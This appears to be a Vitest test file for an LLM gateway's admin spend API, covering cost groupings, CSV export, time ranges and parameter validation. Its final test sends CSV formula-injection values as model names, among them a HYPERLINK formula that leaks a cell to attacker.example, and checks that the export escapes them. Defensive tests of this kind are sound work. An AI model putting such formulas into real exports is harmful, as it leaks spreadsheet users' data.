/**
 * GET /admin/v1/spend: every grouping and the CSV, exact, over a known set of calls; time ranges
 * and bad parameters. Costs: model a at $1/$2 per million (1000 in + 500 out = $0.002), model b at
 * $10/$0 (1000 in = $0.01).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startStandIn, json, chatCompletion, type StandIn } from '../helpers/stand-in.ts'
import { startTestGateway, type TestGateway } from '../helpers/gateway.ts'
import { ADMIN_KEY, admin, chat, ledgerCount } from './ledger-support.ts'

const K1 = 'sk-sb-spend-k1-000000000001'
const K2 = 'sk-sb-spend-k2-000000000002'
const K3 = 'sk-sb-spend-k3-000000000003'

let vendor: StandIn
let gw: TestGateway
const today = new Date().toISOString().slice(0, 10)

beforeAll(async () => {
  vendor = await startStandIn(json(200, chatCompletion('ok', 'x', { prompt_tokens: 1000, completion_tokens: 500, total_tokens: 1500 })))
  gw = await startTestGateway(`
server: { admin_keys: ["${ADMIN_KEY}"] }
store: { url: "sqlite::memory:" }
providers:
  up1: { type: openai, base_url: ${vendor.url}/v1, keys: ["sk-vendor"] }
  up2: { type: openai, base_url: ${vendor.url}/v1, keys: ["sk-vendor"] }
models:
  a: { targets: [{ provider: up1, model: model-a }], pricing: { input: 1, output: 2 } }
  b: { targets: [{ provider: up2, model: model-b }], pricing: { input: 10, output: 0 } }
teams:
  t1: { keys: { k1: { key: "${K1}" }, k2: { key: "${K2}" } } }
  t2: { keys: { k3: { key: "${K3}" } } }
`)
  const call = (key: string, model: string, run?: string) => chat(gw.url, key, { model, messages: [{ role: 'user', content: 'hi' }] }, run ? { 'x-switchboard-run-id': run } : {})
  const done = await Promise.all([call(K1, 'a', 'r1'), call(K1, 'a', 'r1'), call(K1, 'b', 'r1'), call(K2, 'a'), call(K3, 'b', 'r2'), call(K3, 'b', 'r2')])
  expect(done.map((d) => d.status)).toEqual([200, 200, 200, 200, 200, 200])
  expect(await ledgerCount(gw.url, 6)).toBe(6)
})
afterAll(async () => {
  await gw?.stop()
  await vendor?.close()
})

type Spend = { from: string; to: string; group_by: string[]; rows: Array<Record<string, unknown>>; total_cost_usd: number }
const spend = (q: string) => admin<Spend>(gw.url, `/admin/v1/spend${q}`)

describe('spend API', () => {
  it('defaults to this month, one total row', async () => {
    const r = await spend('')
    expect(r.status).toBe(200)
    const n = new Date()
    expect(r.body.from).toBe(new Date(Date.UTC(n.getUTCFullYear(), n.getUTCMonth(), 1)).toISOString())
    expect(r.body.group_by).toEqual([])
    expect(r.body.rows).toEqual([{ requests: 6, input_tokens: 6000, output_tokens: 3000, cached_tokens: 0, cost_usd: 0.036 }])
    expect(r.body.total_cost_usd).toBe(0.036)
  })

  it('by team', async () => {
    expect((await spend('?group_by=team')).body.rows).toEqual([
      { team: 't1', requests: 4, input_tokens: 4000, output_tokens: 2000, cached_tokens: 0, cost_usd: 0.016 },
      { team: 't2', requests: 2, input_tokens: 2000, output_tokens: 1000, cached_tokens: 0, cost_usd: 0.02 },
    ])
  })

  it('by key', async () => {
    expect((await spend('?group_by=key')).body.rows).toEqual([
      { key: 'cfg:t1/k1', requests: 3, input_tokens: 3000, output_tokens: 1500, cached_tokens: 0, cost_usd: 0.014 },
      { key: 'cfg:t1/k2', requests: 1, input_tokens: 1000, output_tokens: 500, cached_tokens: 0, cost_usd: 0.002 },
      { key: 'cfg:t2/k3', requests: 2, input_tokens: 2000, output_tokens: 1000, cached_tokens: 0, cost_usd: 0.02 },
    ])
  })

  it('by model and provider', async () => {
    const r = await spend('?group_by=model,provider')
    expect(r.body.group_by).toEqual(['model', 'provider'])
    expect(r.body.rows).toEqual([
      { model: 'a', provider: 'up1', requests: 3, input_tokens: 3000, output_tokens: 1500, cached_tokens: 0, cost_usd: 0.006 },
      { model: 'b', provider: 'up2', requests: 3, input_tokens: 3000, output_tokens: 1500, cached_tokens: 0, cost_usd: 0.03 },
    ])
  })

  it('by run (calls without a run grouped under null) and by day', async () => {
    expect((await spend('?group_by=run')).body.rows).toEqual([
      { run: null, requests: 1, input_tokens: 1000, output_tokens: 500, cached_tokens: 0, cost_usd: 0.002 },
      { run: 'r1', requests: 3, input_tokens: 3000, output_tokens: 1500, cached_tokens: 0, cost_usd: 0.014 },
      { run: 'r2', requests: 2, input_tokens: 2000, output_tokens: 1000, cached_tokens: 0, cost_usd: 0.02 },
    ])
    expect((await spend('?group_by=day')).body.rows).toEqual([{ day: today, requests: 6, input_tokens: 6000, output_tokens: 3000, cached_tokens: 0, cost_usd: 0.036 }])
  })

  it('CSV, exact', async () => {
    const r = await spend('?group_by=team,key&format=csv')
    expect(r.status).toBe(200)
    expect(r.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(r.text).toBe([
      'team,key,requests,input_tokens,output_tokens,cached_tokens,cost_usd',
      't1,cfg:t1/k1,3,3000,1500,0,0.014',
      't1,cfg:t1/k2,1,1000,500,0,0.002',
      't2,cfg:t2/k3,2,2000,1000,0,0.02',
      '',
    ].join('\n'))
  })

  it('time ranges: dates and times; an empty range; bad parameters are 400', async () => {
    const past = await spend('?group_by=team&from=2020-01-01&to=2020-01-31')
    expect(past.body).toEqual({ from: '2020-01-01T00:00:00.000Z', to: '2020-02-01T00:00:00.000Z', group_by: ['team'], rows: [], total_cost_usd: 0 })
    expect((await spend('?from=2020-01-01&to=2020-01-02')).body.rows).toEqual([])
    const todayOnly = await spend(`?from=${today}&to=${today}`)
    expect(todayOnly.body.total_cost_usd).toBe(0.036)
    expect((await spend(`?from=${today}T00:00:00Z`)).body.total_cost_usd).toBe(0.036)
    const bad = await spend('?group_by=colour')
    expect(bad.status).toBe(400)
    expect(bad.body).toMatchObject({ error: { code: 'invalid_request', param: 'group_by' } })
    expect((await spend('?from=2020-02-01&to=2020-01-01')).status).toBe(400)
    expect((await spend('?format=xml')).status).toBe(400)
    const noAuth = await fetch(`${gw.url}/admin/v1/spend`)
    expect(noAuth.status).toBe(401)
    // Names on Object.prototype are not groupings either (they were a 500).
    for (const g of ['constructor', 'toString', '__proto__', 'hasOwnProperty']) {
      const r = await spend(`?group_by=${g}`)
      expect(r.status, g).toBe(400)
      expect(r.body).toMatchObject({ error: { code: 'invalid_request', param: 'group_by' } })
    }
  })

  // Last: it adds ledger rows the exact totals above do not count.
  it('CSV: a cell a spreadsheet would run as a formula (a model name a client sent) starts with a quote', async () => {
    const formulas = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', '+1+1', '-2+3', '@SUM(A1)', '\tx']
    for (const model of formulas) expect((await chat(gw.url, K3, { model, messages: [{ role: 'user', content: 'x' }] })).status).toBe(404)
    expect(await ledgerCount(gw.url, 6 + formulas.length)).toBe(6 + formulas.length)
    const r = await spend('?group_by=model&format=csv')
    const lines = r.text.split('\n')
    expect(lines).toContain(`"'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Click"")",1,0,0,0,0`)
    for (const cell of ["'+1+1", "'-2+3", "'@SUM(A1)", "'\tx"]) expect(lines).toContain(`${cell},1,0,0,0,0`)
    expect(lines).toContain('a,3,3000,1500,0,0.006')
    expect(lines.filter((l) => /^[=+\-@\t\r]/.test(l))).toEqual([])
  })
})
